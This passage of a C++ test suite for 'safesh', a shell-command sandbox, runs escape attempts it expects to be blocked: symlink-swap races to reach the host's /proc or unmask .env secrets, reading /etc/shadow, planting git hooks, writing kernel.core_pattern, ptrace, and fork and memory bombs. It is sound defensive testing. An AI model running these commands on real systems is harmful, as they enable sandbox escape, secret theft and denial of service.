  // Under rlimits, which count no tmpfs pages (a cgroup counts them: see the memory bomb).
  context_.settings.sandbox.memory_limit = 64ULL << 20;
  context_.limits_override = "rlimit";
  std::string file = "/dev/shm/safesh-escape-" + std::to_string(getpid());
  ExpectBlocked("head -c 100M /dev/zero > " + file + " && echo WROTE", "WROTE",
                [&] { fs::remove(file); });
  fs::remove(file);
}

// Kernel settings stay read-only for root too: bubblewrap leaves /proc/sys writable when it runs
// as root, and root's owner rights would reach the host's kernel.core_pattern (a program run as
// root on the host at the next crash). The value written is the one there already.
TEST_P(Escape, KernelSettingsAreReadOnlyForRoot) {
  if (geteuid() != 0) GTEST_SKIP() << "only root owns /proc/sys";
  ExpectBlocked(
      "v=$(cat /proc/sys/kernel/core_pattern); echo \"$v\" > /proc/sys/kernel/core_pattern && "
      "echo WROTE",
      "WROTE");
}

// As root, the command's root is an unprivileged uid on the host (root_map.h). Root's owner
// rights are gone outside the workspace: /etc/shadow (0640 root:shadow) and a 0600 file of root's
// in a folder anyone may enter cannot be read, although a sandbox that keeps uid 0 (the setting
// that turns the mapping off) reads both. The workspace stays the command's own: it writes there,
// what it makes is root's on disk, another user's file keeps its owner and stays writable, and
// owners can be given. The folder where the mapped mounts were attached shows nothing (another
// view of the workspace there would be under none of its masks). Capabilities are dropped as
// before, so another user's file is theirs alone, as it was for root without them.
TEST_P(Escape, RootHasNoOwnerRightsOutsideTheWorkspace) {
  if (geteuid() != 0) GTEST_SKIP() << "only root has owner rights on root's files";
  if (landlock()) GTEST_SKIP() << "the Landlock launcher keeps uid 0 (docs/architecture.md)";
  std::string open = dir_ + "/open";
  fs::create_directories(open);
  ASSERT_EQ(chmod(open.c_str(), 0755), 0);
  std::ofstream(open + "/owner-only.txt") << "OWNER-ONLY-" << getpid() << "\n";
  ASSERT_EQ(chmod((open + "/owner-only.txt").c_str(), 0600), 0);
  std::string attempt =
      "cat " + open + "/owner-only.txt; head -c 4 /etc/shadow >/dev/null && echo SHADOW";
  context_.settings.sandbox.root_keeps_owner_rights = true;
  RunResult kept = Run(attempt, "required");
  ASSERT_EQ(kept.sandbox_mode, "bwrap") << kept.error;
  ASSERT_NE(kept.output.find("OWNER-ONLY"), std::string::npos) << kept.output;
  ASSERT_NE(kept.output.find("SHADOW"), std::string::npos) << kept.output;
  context_.settings.sandbox.root_keeps_owner_rights = false;
  RunResult in = Run(attempt, "required");
  ASSERT_EQ(in.sandbox_mode, "bwrap") << in.error;
  EXPECT_EQ(in.output.find("OWNER-ONLY"), std::string::npos) << in.output;
  EXPECT_EQ(in.output.find("SHADOW"), std::string::npos) << in.output;

  std::ofstream(ws_ + "/theirs.txt") << "theirs\n";
  ASSERT_EQ(chown((ws_ + "/theirs.txt").c_str(), 1000, 1000), 0);
  std::ofstream(ws_ + "/.env") << "ENV-SECRET\n";
  RunResult own =
      Run("cat /proc/self/uid_map; touch mine.txt && stat -c 'mine %u' mine.txt; "
          "stat -c 'theirs %u' theirs.txt; ls -A /run/safesh | wc -l; cat /run/safesh/*/.env 2>&1",
          "required");
  ASSERT_EQ(own.sandbox_mode, "bwrap") << own.error;
  EXPECT_NE(own.output.find("0 " + std::to_string(kRootMapFirstId) + " "), std::string::npos)
      << own.output;
  EXPECT_NE(own.output.find("mine 0"), std::string::npos) << own.output;
  EXPECT_NE(own.output.find("theirs 1000"), std::string::npos) << own.output;
  EXPECT_EQ(own.output.find("ENV-SECRET"), std::string::npos) << own.output;
  EXPECT_NE(own.output.find("\n0\n"), std::string::npos) << own.output;
  struct stat st;
  ASSERT_EQ(stat((ws_ + "/mine.txt").c_str(), &st), 0);
  EXPECT_EQ(st.st_uid, 0u);
  ASSERT_EQ(stat((ws_ + "/theirs.txt").c_str(), &st), 0);
  EXPECT_EQ(st.st_uid, 1000u);
}

// A workspace that is a repository (git init: HEAD, hooks with samples) runs commands, and its
// hooks stay read-only: bound once (ProtectGitDir), not also masked by the scan's repository
// protection, which made the mount check refuse every command.
TEST_P(Escape, ARepositoryWorkspaceRunsWithItsHooksReadOnly) {
  if (landlock()) {
    GTEST_SKIP() << "Landlock cannot enforce this (documented): a read-only path inside a "
                    "writable root";
  }
  std::ofstream(ws_ + "/.git/HEAD") << "ref: refs/heads/main\n";
  fs::create_directories(ws_ + "/.git/hooks");
  std::ofstream(ws_ + "/.git/hooks/pre-commit.sample") << "#!/bin/sh\n";
  ExpectBlocked("echo evil > .git/hooks/pre-commit && echo PLANTED", "PLANTED",
                [&] { fs::remove(ws_ + "/.git/hooks/pre-commit"); });
  RunResult r = Run("ls .git/hooks && echo RAN", "required");
  EXPECT_NE(r.output.find("pre-commit.sample"), std::string::npos) << r.output << r.error;
  EXPECT_NE(r.output.find("RAN"), std::string::npos) << r.output << r.error;
}

// A command running beside the one being started (a background server, a parallel tool call)
// keeps swapping .git for a copy whose config is a relative link into /proc. When the sandbox
// binds .git/config read-only by its path, a start that checks a plain file and then mounts
// through the link puts the host's /proc over the sandbox's: the host's processes, and as root
// /proc/PID/root of any of them, the whole host. Bound from a descriptor opened without
// following links (bwrap.h: OpenBindSources), the swap either fails the start or changes
// nothing. The unprotected control builds the same spec and binds by path (BwrapArgs with no
// descriptors); it must win within the time given, or the test proves nothing.
TEST_P(Escape, SwapsRacingTheSandboxStartNeverReachTheHostsProc) {
  if (landlock()) GTEST_SKIP() << "no mounts in the Landlock launcher";
  std::string evil = ws_ + "/.git-evil";
  fs::create_directories(evil);
  // Exactly as many `..` as .git lies deep: the source, resolved on the host, then reaches the
  // host's /proc, and the destination, resolved in the new root, the sandbox's.
  std::string up = "../";
  for (char ch : ws_)
    if (ch == '/') up += "../";
  ASSERT_EQ(symlink((up + "proc").c_str(), (evil + "/config").c_str()), 0);
  std::atomic<bool> stop{false};
  std::thread swapper([&] {
    while (!stop) {
      syscall(SYS_renameat2, AT_FDCWD, (ws_ + "/.git").c_str(), AT_FDCWD, evil.c_str(),
              RENAME_EXCHANGE);
    }
  });
  // The host's proc shows this test process; the sandbox's own never does.
  std::string probe = "/proc/" + std::to_string(getpid()) + "/cmdline";
  std::string bwrap = FindBwrap();
  auto seen_host = [&](const std::string& out) {
    return out.find("sandbox_test") != std::string::npos;
  };
  int control_wins = 0, control_tries = 0;
  auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(40);
  while (control_wins == 0 && std::chrono::steady_clock::now() < deadline) {
    SandboxSpec spec = BuildSpec(config::SandboxSettings(), {ws_}, home_);
    std::vector<std::string> argv = BwrapArgs(spec, ws_, -1, -1, {"/bin/cat", probe});
    argv.insert(argv.begin(), bwrap);
    testing::RunOutput r = testing::RunProgram(argv);
    ++control_tries;
    if (seen_host(r.out)) ++control_wins;
  }
  ASSERT_GT(control_wins, 0) << "the race was not won by path binds in " << control_tries
                             << " starts: the test proves nothing";
  // The same race, as long again as the control needed (at least 300 starts), through safesh.
  int tries = std::max(300, control_tries), escapes = 0, ran = 0;
  std::string a_refusal;
  for (int i = 0; i < tries; ++i) {
    RunResult r = Run("cat " + probe + " 2>/dev/null; echo RAN", "required");
    if (seen_host(r.output)) ++escapes;
    if (r.output.find("RAN") != std::string::npos) {
      ++ran;
    } else if (a_refusal.empty()) {
      a_refusal = r.error + r.output;
    }
  }
  stop = true;
  swapper.join();
  EXPECT_EQ(escapes, 0) << "of " << tries << " starts";
  // Most starts still run: a swap fails a start only when it lands in the moment between the
  // check and the open (and then it says so).
  EXPECT_GT(ran, 0);
  std::cout << "[ race ] control: won after " << control_tries << " starts; safesh: " << tries
            << " starts, " << escapes << " escapes, " << ran << " ran; a refusal: " << a_refusal
            << "\n";
}

// The race before the mounts: a command running beside the one being started keeps swapping
// the folder that holds a .env with a link to a decoy. The blocked-name scan, or the masking of
// what it found, then misses the real .env (the scan does not follow links, and a mask put at a
// path through the link lands on the decoy). The scan reports a folder that changed under it
// (ScanResult::changed), AddBlockedMatches one whose path is no longer real, and safesh scans
// again or refuses. Shown on the scan itself first: misses happen (the attack is real), and
// every one is flagged; then through safesh, where the secret never reaches the command.
TEST_P(Escape, SwapsRacingTheScanNeverLeaveASecretUnmasked) {
  if (landlock()) GTEST_SKIP() << "Landlock cannot hide a path (documented)";
  fs::create_directories(ws_ + "/sub");
  fs::create_directories(ws_ + "/decoy");
  std::string secret = "API_KEY=SECRET-" + std::to_string(getpid());
  std::ofstream(ws_ + "/sub/.env") << secret << "\n";
  std::ofstream(ws_ + "/decoy/.env") << "decoy\n";
  ASSERT_EQ(symlink("decoy", (ws_ + "/sublink").c_str()), 0);
  std::atomic<bool> stop{false};
  std::thread swapper([&] {
    while (!stop) {
      syscall(SYS_renameat2, AT_FDCWD, (ws_ + "/sub").c_str(), AT_FDCWD, (ws_ + "/sublink").c_str(),
              RENAME_EXCHANGE);
    }
  });
  int misses = 0, unflagged = 0, scans = 0;
  BlockedScan cache;
  auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  while ((misses < 20 || scans < 500) && std::chrono::steady_clock::now() < deadline) {
    ScanResult r = Scan(&cache, {ws_}, DefaultBlockedNames(), ScanLimits(), [] { return false; });
    ++scans;
    SandboxSpec spec;
    std::string changed = r.changed ? r.changed_path : AddBlockedMatches(r, {ws_}, &spec);
    // Masked where it is: at either name, as the real folder had it when masked.
    bool masked = false;
    for (const std::string& f : spec.blocked_files)
      masked = masked || f == ws_ + "/sub/.env" || f == ws_ + "/sublink/.env";
    if (!masked) {
      ++misses;
      if (changed.empty()) ++unflagged;
    }
  }
  EXPECT_GT(misses, 0) << "no scan of " << scans << " missed the file: the test proves nothing";
  EXPECT_EQ(unflagged, 0) << "of " << misses << " misses in " << scans << " scans";

  int leaks = 0, ran = 0, tries = 300;
  for (int i = 0; i < tries; ++i) {
    RunResult r = Run("cat sub/.env sublink/.env 2>/dev/null; echo RAN", "required");
    if (r.output.find(secret) != std::string::npos) ++leaks;
    if (r.output.find("RAN") != std::string::npos) ++ran;
  }
  stop = true;
  swapper.join();
  EXPECT_EQ(leaks, 0) << "of " << tries << " starts";
  std::cout << "[ race ] scan: " << misses << " misses in " << scans << " scans, " << unflagged
            << " unflagged; safesh: " << tries << " starts, " << leaks << " leaks, " << ran
            << " ran\n";
}

// Runs bwrap with `args`, giving it `fds` as descriptors 3, 4, ... in order; its output.
std::string RunBwrapWith(const std::vector<std::string>& args, const std::vector<int>& fds) {
  std::vector<util::UniqueFd> high;  // copies above any number they are moved to
  for (int fd : fds)
    high.emplace_back(fcntl(fd, F_DUPFD_CLOEXEC, 100));
  int out[2];
  if (pipe2(out, O_CLOEXEC) != 0) return "pipe failed";
  util::UniqueFd r(out[0]), w(out[1]);
  posix_spawn_file_actions_t fa;
  posix_spawn_file_actions_init(&fa);
  posix_spawn_file_actions_addopen(&fa, 0, "/dev/null", O_RDONLY, 0);
  posix_spawn_file_actions_adddup2(&fa, w.get(), 1);
  posix_spawn_file_actions_adddup2(&fa, w.get(), 2);
  for (size_t i = 0; i < high.size(); ++i)
    posix_spawn_file_actions_adddup2(&fa, high[i].get(), 3 + static_cast<int>(i));
  std::vector<std::string> argv = args;
  argv.insert(argv.begin(), FindBwrap());
  std::vector<char*> cargv;
  for (std::string& a : argv)
    cargv.push_back(a.data());
  cargv.push_back(nullptr);
  pid_t pid;
  int rc = posix_spawn(&pid, argv[0].c_str(), &fa, nullptr, cargv.data(), environ);
  posix_spawn_file_actions_destroy(&fa);
  w.Reset();
  if (rc != 0) return "spawn failed";
  std::string text, ignored;
  util::ReadToEnd(r.get(), "bwrap", &text, &ignored);
  waitpid(pid, nullptr, 0);
  return text;
}

// The other end of the race: bubblewrap resolves each mount's destination by its path,
// following links. A command running beside the one being started swaps .git and the folder of
// a hidden .env for links to decoys after safesh's checks and before bubblewrap mounts: the
// read-only bind and the mask land on the decoys, and the command, swapping the real folders
// back, writes the real .git/config (a hook for the host's next git command) and reads the
// real .env. Made deterministic here: the swap is done between the spec and the start.
// safesh-confine walks every destination after the mounts, refusing links, and refuses to run
// the command when a mount is not where it was meant to be (MountManifest). The control is the
// same start without that check.
TEST_P(Escape, AMountThatLandsOnADecoyStopsTheCommand) {
  if (landlock()) GTEST_SKIP() << "no mounts in the Landlock launcher";
  std::string secret = "API_KEY=SECRET-" + std::to_string(getpid());
  std::string inner =
      "rm .git sub && mv .git-real .git && mv sub-real sub && cat sub/.env; "
      "echo '# PWNED' >> .git/config && echo WROTE";
  config::SandboxSettings settings;
  settings.blocked_paths = {ws_ + "/sub/.env"};
  struct Prepared {
    BindSources binds;
    util::UniqueFd manifest;
    SandboxSpec spec;
  };
  // Checks and opens everything as safesh does, then swaps in the decoys.
  auto prepare = [&](Prepared* p) {
    fs::remove_all(ws_ + "/decoy-git");
    fs::remove_all(ws_ + "/decoy-sub");
    fs::create_directories(ws_ + "/sub");
    fs::create_directories(ws_ + "/decoy-git");
    fs::create_directories(ws_ + "/decoy-sub");
    std::ofstream(ws_ + "/.git/config") << "[core]\n";
    std::ofstream(ws_ + "/sub/.env") << secret << "\n";
    std::ofstream(ws_ + "/decoy-git/config") << "decoy\n";
    std::ofstream(ws_ + "/decoy-sub/.env") << "decoy\n";
    p->spec = BuildSpec(settings, {ws_}, home_);
    ASSERT_TRUE(std::find(p->spec.read_only.begin(), p->spec.read_only.end(),
                          ws_ + "/.git/config") != p->spec.read_only.end());
    ASSERT_TRUE(std::find(p->spec.blocked_files.begin(), p->spec.blocked_files.end(),
                          ws_ + "/sub/.env") != p->spec.blocked_files.end());
    std::string error;
    ASSERT_TRUE(OpenBindSources(p->spec, &p->binds, &error)) << error;
    ASSERT_TRUE(MountManifest(p->spec, p->binds, &p->manifest, &error)) << error;
    fs::rename(ws_ + "/.git", ws_ + "/.git-real");
    fs::create_directory_symlink("decoy-git", ws_ + "/.git");
    fs::rename(ws_ + "/sub", ws_ + "/sub-real");
    fs::create_directory_symlink("decoy-sub", ws_ + "/sub");
  };
  auto config = [&] {
    std::ifstream in(ws_ + "/.git/config");
    return std::string(std::istreambuf_iterator<char>(in), {});
  };

  Prepared control;
  prepare(&control);
  std::vector<int> fds;
  for (const util::UniqueFd& fd : control.binds.fds)
    fds.push_back(fd.get());
  std::string out =
      RunBwrapWith(BwrapArgs(control.spec, ws_, -1, 3, {"/bin/sh", "-c", inner}), fds);
  ASSERT_NE(out.find(secret), std::string::npos) << "the decoys did not work: " << out;
  ASSERT_NE(out.find("WROTE"), std::string::npos) << out;
  ASSERT_NE(config().find("PWNED"), std::string::npos);
  // Put the real folders back for the protected start (the control's command did).

  Prepared checked;
  prepare(&checked);
  util::UniqueFd confine(open(context_.confine.c_str(), O_RDONLY | O_CLOEXEC));
  ASSERT_TRUE(confine.valid()) << context_.confine;
  fds = {confine.get(), checked.manifest.get()};
  for (const util::UniqueFd& fd : checked.binds.fds)
    fds.push_back(fd.get());
  out = RunBwrapWith(BwrapArgs(checked.spec, ws_, -1, 5,
                               {"/proc/self/fd/3", "-", "4", "-", "--", "/bin/sh", "-c", inner}),
                     fds);
  EXPECT_NE(out.find("not where it was meant to be"), std::string::npos) << out;
  EXPECT_EQ(out.find(secret), std::string::npos) << out;
  EXPECT_EQ(out.find("WROTE"), std::string::npos) << out;
  fs::remove(ws_ + "/.git");
  fs::rename(ws_ + "/.git-real", ws_ + "/.git");
  EXPECT_EQ(config().find("PWNED"), std::string::npos) << config();
}

// With the network allowed the sandbox shares the host's network namespace, and with it the
// abstract UNIX sockets (X11's, D-Bus's): only Landlock's scope (ABI 6) keeps them out, in the
// Landlock launcher and as the second layer inside bubblewrap.
TEST_P(Escape, HostAbstractSocketsWithTheNetworkAllowed) {
  std::string why;
  if (LandlockAbi(&why) < 6) {
    SAFESH_SKIP_MISSING("Landlock before ABI 6 does not scope abstract sockets");
  }
  std::string name = "safesh-escape-" + std::to_string(getpid());
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_un a{};
  a.sun_family = AF_UNIX;
  memcpy(a.sun_path + 1, name.data(), name.size());
  socklen_t len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
  ASSERT_EQ(bind(fd, reinterpret_cast<sockaddr*>(&a), len), 0) << strerror(errno);
  ASSERT_EQ(listen(fd, 64), 0);
  context_.settings.sandbox.allow_network = true;
  ExpectBlocked(Helper() + " abstract " + name, "ok");
  RunResult in = Run("true", "required");
  if (!landlock()) {
    EXPECT_NE(in.sandbox_reason.find("Landlock (ABI"), std::string::npos) << in.sandbox_reason;
  }
  close(fd);
}

// Without safesh-confine the bubblewrap sandbox still runs, and says it has no Landlock layer;
// one named that is not there is an error, not a silent run without it.
TEST_P(Escape, AMissingLandlockLayerIsSaid) {
  if (landlock()) GTEST_SKIP() << "about the layer inside bubblewrap";
  std::string why;
  if (LandlockAbi(&why) < 1) {
    SAFESH_SKIP_MISSING(why);
  }
  RunResult r;
  if (FindConfineLauncher().empty()) {  // not next to this test program (the build's layout)
    context_.confine = "";
    r = Run("echo ran", "required");
    EXPECT_EQ(r.output, "ran\n");
    EXPECT_NE(r.sandbox_reason.find("no Landlock layer: safesh-confine is not installed"),
              std::string::npos)
        << r.sandbox_reason;
  }
  // One a command could replace (in the workspace) is not relied on.
  fs::copy_file(Confine(), ws_ + "/safesh-confine");
  fs::permissions(ws_ + "/safesh-confine", fs::perms::owner_all);
  context_.confine = ws_ + "/safesh-confine";
  r = Run("echo ran", "required");
  EXPECT_EQ(r.output, "ran\n");
  EXPECT_NE(r.sandbox_reason.find("no Landlock layer: safesh-confine lies in a writable folder"),
            std::string::npos)
      << r.sandbox_reason;
  context_.confine = "/nonexistent/safesh-confine";
  r = Run("echo ran", "required");
  EXPECT_EQ(r.outcome, RunResult::Outcome::kFailedToStart);
  EXPECT_EQ(r.output, "");
  EXPECT_NE(r.error.find("/nonexistent/safesh-confine"), std::string::npos) << r.error;
}

TEST_P(Escape, SystemCallsTheFilterRefuses) {
  const std::string helper = Helper();
  // ptrace of a process of the same user outside the sandbox: this test.
  ExpectBlocked(helper + " ptrace " + std::to_string(getpid()), "ok");
  // Kernels with dev.tty.legacy_tiocsti = 0 refuse TIOCSTI to all but CAP_SYS_ADMIN already.
  if (RunResult off = Run(helper + " tiocsti", "off"); off.output == "ok\n") {
    ExpectBlocked(helper + " tiocsti", "ok");
  } else {
    GTEST_LOG_(INFO) << "the kernel refuses TIOCSTI to this user already: " << off.output;
  }
  ExpectBlocked(helper + " keyctl", "ok");
  ExpectBlocked(helper + " unshare_mount", "ok");
  // A user namespace of its own, by each call that makes one (nested: the command's may already
  // be one, and in it every capability over what it owns opens kernel code no command needs).
  ExpectBlocked(helper + " userns_unshare", "ok");
  ExpectBlocked(helper + " userns_clone", "ok");
  if (Run(helper + " userns_clone3", "off").output == "ok\n")
    ExpectBlocked(helper + " userns_clone3", "ok");
  ExpectBlocked(helper + " adjtimex", "ok");
#if defined(__x86_64__)
  // Kernels built without the I/O port interface refuse iopl to everyone: nothing to prove then.
  if (Run(helper + " iopl", "off").output == "ok\n") ExpectBlocked(helper + " iopl", "ok");
  // The 32-bit ABI, where the kernel has it: the filter kills the process.
  if (Run(helper + " ia32", "off").output == "ok\n") ExpectBlocked(helper + " ia32", "ok");
#endif
  RunResult off = Run(helper + " io_uring", "off");
  if (off.output == "ok\n") {
    ExpectBlocked(helper + " io_uring", "ok");
  } else {
    GTEST_LOG_(INFO) << "io_uring is not available here: " << off.output;
  }
}

TEST_P(Escape, NoCapabilitiesEvenAsRoot) {
  if (geteuid() != 0) GTEST_SKIP() << "only root has capabilities to lose";
  ExpectBlocked("mknod disk b 8 0 && echo MADE", "MADE", [&] { fs::remove(ws_ + "/disk"); });
}

TEST_P(Escape, HostProcessesAreInvisible) {
  if (landlock()) GTEST_SKIP() << "Landlock cannot enforce this (documented): a PID namespace";
  ExpectBlocked("test -d /proc/" + std::to_string(getpid()) + " && echo SEEN", "SEEN");
}

TEST_P(Escape, TheGuardCannotBeSignalled) {
  // Stopping or killing the guard (same user) would let processes outlive the command. Through
  // Landlock (ABI 6 and later) signals may not leave the sandbox. (Through bubblewrap the guard
  // is outside the PID namespace, with no number to send a signal to: HostProcessesAreInvisible.)
  if (!landlock()) GTEST_SKIP() << "bubblewrap: the guard has no pid inside the sandbox";
  std::string why;
  if (LandlockAbi(&why) < 6) {
    SAFESH_SKIP_MISSING("Landlock before ABI 6 does not scope signals");
  }
  ExpectBlocked("kill -CONT $PPID && echo SIGNALLED", "SIGNALLED");
}

TEST_P(Escape, NothingIsLeftBehind) {
  std::string marker = testing::UniqueSleep();
  RunResult r =
      Run(marker + " & setsid " + marker + " & (" + marker + " &) ; echo started", "required");
  EXPECT_EQ(r.output, "started\n");
  EXPECT_TRUE(testing::WaitUntilGone(marker).empty());
}

// Resource limits, through the real `safesh run` in the sandbox with small caps (64 processes,
// 256 MiB): each bomb is first shown to be real with the limit off, then stopped with it, the
// result says which limit, and nothing is left: no process, no cgroup.
class Bomb : public Escape {
 protected:
  struct Ran {
    ::safesh::testing::RunOutput out;
    nlohmann::json json;
    pid_t pid = -1;  // safesh's
  };

  std::vector<std::string> Args(const std::string& command, const std::string& limits) {
    std::string config = dir_ + "/limits.toml";
    std::ofstream(config) << "[sandbox]\n" << limits << "\n[tools]\nshell_timeout_seconds = 60\n";
    return {SAFESH_BINARY, "run", "--config", config, "--workspace", ws_,
            "--approve",   "yes", "--json",   "--",   command};
  }
  std::vector<std::string> Env() {
    std::vector<std::string> env = {"PATH=/usr/bin:/bin", "HOME=" + home_,
                                    "SAFESH_SANDBOX_SHELL=required",
                                    "SAFESH_SANDBOX_LAUNCHER=" + GetParam()};
    if (rlimit_) env.push_back("SAFESH_LIMITS=rlimit");
    return env;
  }

  // `safesh run --json -- command` with [sandbox] `limits`; the timeout (60 s) is a backstop.
  Ran Safesh(const std::string& command, const std::string& limits) {
    ::safesh::testing::RunOptions o;
    o.env = Env();
    o.timeout_seconds = 90;
    Ran r;
    o.pid = &r.pid;
    r.out = ::safesh::testing::RunProgram(Args(command, limits), o);
    r.json = nlohmann::json::parse(r.out.out, nullptr, false);
    EXPECT_FALSE(r.json.is_discarded()) << r.out.out << r.out.err;
    return r;
  }

  // Starts safesh in the background (output to /dev/null); returns its pid.
  pid_t Start(const std::string& command, const std::string& limits) {
    return ::safesh::testing::StartProgram(Args(command, limits), Env());
  }

  // The cgroups safesh `pid` made that still exist.
  static std::vector<std::string> CgroupsLeftBy(pid_t pid) {
    std::vector<std::string> left;
    std::string prefix = "safesh-" + exec::PidNamespaceId() + "-" + std::to_string(pid) + "-";
    for (const exec::CgroupParentDir& d : exec::FindCgroupParent(true, true).dirs) {
      for (const fs::directory_entry& e : fs::directory_iterator(d.dir)) {
        if (e.path().filename().string().starts_with(prefix)) left.push_back(e.path());
      }
    }
    return left;
  }

  // The command's bash as it appears in /proc (bubblewrap runs it by its path).
  std::string BashCmdline(const std::string& command) {
    return (landlock() ? std::string("bash") : exec::FindBash()) + " -c -- " + command;
  }

  void ExpectCleanAfter(const Ran& r, const std::vector<std::string>& markers) {
    for (const std::string& m : markers)
      EXPECT_TRUE(::safesh::testing::WaitUntilGone(m).empty()) << "still running: " << m;
    EXPECT_TRUE(CgroupsLeftBy(r.pid).empty());
  }

  // What the limits are enforced by here, for "auto": a cgroup where this user may make one.
  std::string ExpectedVia() {
    if (rlimit_) return "rlimit";
    int version = exec::FindCgroupParent(true, true).version;
    return version == 2 ? "cgroup2" : version == 1 ? "cgroup1" : "rlimit";
  }

  bool rlimit_ = false;  // SAFESH_LIMITS=rlimit: the way taken where no cgroup can be made
};

constexpr char kCaps[] = "max_processes = 64\nmemory_limit = \"256MiB\"";

// 2^7 = 128 processes, all left running as `marker`: a fork bomb with an end.
std::string BoundedForkBomb(const std::string& marker) {
  return "b(){ if [ $1 -gt 0 ]; then b $(($1-1)) & b $(($1-1)); else exec " + marker +
         "; fi; }; b 7";
}

TEST_P(Bomb, AForkBombIsStoppedAtTheProcessLimit) {
  std::string marker = ::safesh::testing::UniqueSleep();
  // The attempt is real: with no process limit, more than 100 run at once (checked from
  // outside), until safesh is told to stop (SIGTERM: cancelled).
  pid_t free = Start(BoundedForkBomb(marker), "max_processes = 0");
  EXPECT_TRUE(::safesh::testing::WaitForCount(marker, 100))
      << "the bounded bomb did not reach 100 processes without a limit";
  kill(free, SIGTERM);
  int status;
  ASSERT_EQ(waitpid(free, &status, 0), free);
  ASSERT_TRUE(::safesh::testing::WaitUntilGone(marker).empty());

  for (bool rlimit : {false, true}) {
    rlimit_ = rlimit;
    SCOPED_TRACE(rlimit ? "SAFESH_LIMITS=rlimit" : "auto");
    Ran r = Safesh(BoundedForkBomb(marker), kCaps);
    EXPECT_EQ(r.out.exit_code, 125) << r.out.err;
    EXPECT_EQ(r.json["limits"]["via"], ExpectedVia()) << r.json["limits"];
    EXPECT_EQ(r.json["limits"]["hit"], "processes") << r.json["limits"];
    EXPECT_EQ(r.json["limits"]["stopped"], true);
    EXPECT_EQ(r.json["limits"]["max_processes"], 64);
    EXPECT_EQ(r.json["timed_out"], false);
    EXPECT_EQ(r.json["error"], "stopped: limit of 64 processes reached ([sandbox] max_processes)");
    ExpectCleanAfter(r, {marker});
  }

  // The real thing, which never ends by itself. Not with rlimits as root: there the cap is
  // only counted, every 10 ms, and a bash fork bomb makes thousands of processes before that
  // (docs/architecture.md); the bounded bomb above shows the count stops it.
  for (bool rlimit : {false, true}) {
    rlimit_ = rlimit;
    if (ExpectedVia() == "rlimit" && geteuid() == 0) {
      GTEST_LOG_(INFO) << "the endless fork bomb is not run with rlimits as root";
      continue;
    }
    SCOPED_TRACE(rlimit ? "SAFESH_LIMITS=rlimit" : "auto");
    std::string bomb = ":(){ :|:& };: ; " + marker;
    Ran r = Safesh(bomb, kCaps);
    EXPECT_EQ(r.out.exit_code, 125) << r.out.err;
    EXPECT_EQ(r.json["limits"]["hit"], "processes") << r.json["limits"];
    EXPECT_EQ(r.json["limits"]["stopped"], true);
    EXPECT_EQ(r.json["timed_out"], false);
    ExpectCleanAfter(r, {marker, BashCmdline(bomb)});
  }
}

TEST_P(Bomb, AMemoryBombIsStoppedAtTheMemoryLimit) {
  const std::string helper = Helper();
  const std::string alloc = helper + " alloc 384";
  // The attempt is real: with no memory limit, 384 MiB are touched.
  Ran free = Safesh(alloc, "memory_limit = \"off\"");
  ASSERT_EQ(free.json["output"], "ok\n") << free.out.out;

  Ran r = Safesh(alloc, kCaps);
  EXPECT_EQ(r.json["output"].get<std::string>().find("ok"), std::string::npos) << r.out.out;
  EXPECT_NE(r.out.exit_code, 0);
  EXPECT_EQ(r.json["timed_out"], false);
  EXPECT_EQ(r.json["limits"]["memory_bytes"], 256 << 20);
  EXPECT_EQ(r.json["limits"]["via"], ExpectedVia()) << r.json["limits"];
  if (ExpectedVia() != "rlimit") {
    // An OOM kill: seen at once (the helper was the command, so it ended) or stopped.
    EXPECT_EQ(r.json["limits"]["hit"], "memory") << r.json["limits"];
    EXPECT_NE(r.json["error"].get<std::string>().find("memory limit of 256 MiB reached"),
              std::string::npos)
        << r.json["error"];
    // A pipeline that buffers everything: tail keeps a line with no end in memory (without a
    // limit it prints the 402653184 bytes, counted).
    const std::string buffer = "head -c 384M /dev/zero | tail | wc -c";
    ASSERT_EQ(Safesh(buffer, "memory_limit = \"off\"").json["output"], "402653184\n");
    Ran pipe = Safesh(buffer, kCaps);
    EXPECT_EQ(pipe.json["limits"]["hit"], "memory") << pipe.json;
    EXPECT_EQ(pipe.json["timed_out"], false);
    ExpectCleanAfter(pipe, {});
  }
  ExpectCleanAfter(r, {alloc});

  // With rlimits (where no cgroup can be made) each process fails to allocate past the cap, in
  // its own words; that is not reported as hit.
  rlimit_ = true;
  r = Safesh(alloc, kCaps);
  EXPECT_EQ(r.json["limits"]["via"], "rlimit");
  EXPECT_EQ(r.json["output"], "mmap: Cannot allocate memory\n");
  EXPECT_EQ(r.out.exit_code, 1);
  EXPECT_TRUE(r.json["limits"]["hit"].is_null());
  r = Safesh("head -c 384M /dev/zero | tail | wc -c", kCaps);
  EXPECT_NE(r.json["output"].get<std::string>().find("tail: memory exhausted"), std::string::npos)
      << r.json["output"];
}

TEST_P(Bomb, ACgroupLeftByAKilledSafeshIsRemovedByTheNextRun) {
  if (ExpectedVia() == "rlimit") {
    // An ordinary user may have no cgroup to make (no delegation): that is this test not
    // applying. Root always can, here and in CI.
    if (geteuid() == 0) {
      SAFESH_SKIP_MISSING("no cgroup can be made here: nothing to leave");
    }
    GTEST_SKIP() << "this user cannot make cgroups: nothing to leave";
  }
  std::string marker = ::safesh::testing::UniqueSleep();
  pid_t killed = Start(marker, kCaps);
  ASSERT_TRUE(::safesh::testing::WaitForCount(marker, 1));
  // The attempt is real: safesh, killed, cannot remove its cgroup (its guard still kills the
  // command).
  ASSERT_EQ(kill(killed, SIGKILL), 0);
  int status;
  ASSERT_EQ(waitpid(killed, &status, 0), killed);
  ASSERT_TRUE(::safesh::testing::WaitUntilGone(marker).empty());
  // (Another safesh on this machine may sweep it first: the v1 pids hierarchy is shared.)
  if (CgroupsLeftBy(killed).empty()) GTEST_SKIP() << "another safesh removed it first";
  Ran next = Safesh("true", kCaps);
  EXPECT_EQ(next.out.exit_code, 0) << next.out.err;
  EXPECT_TRUE(CgroupsLeftBy(killed).empty());
  EXPECT_TRUE(CgroupsLeftBy(next.pid).empty());
}

INSTANTIATE_TEST_SUITE_P(Launchers, Bomb, ::testing::Values("bwrap", "landlock"),
                         [](const ::testing::TestParamInfo<std::string>& info) {
                           return info.param;
                         });

INSTANTIATE_TEST_SUITE_P(Launchers, Escape, ::testing::Values("bwrap", "landlock"),
                         [](const ::testing::TestParamInfo<std::string>& info) {
                           return info.param;
                         });

}  // namespace
}  // namespace safesh::sandbox
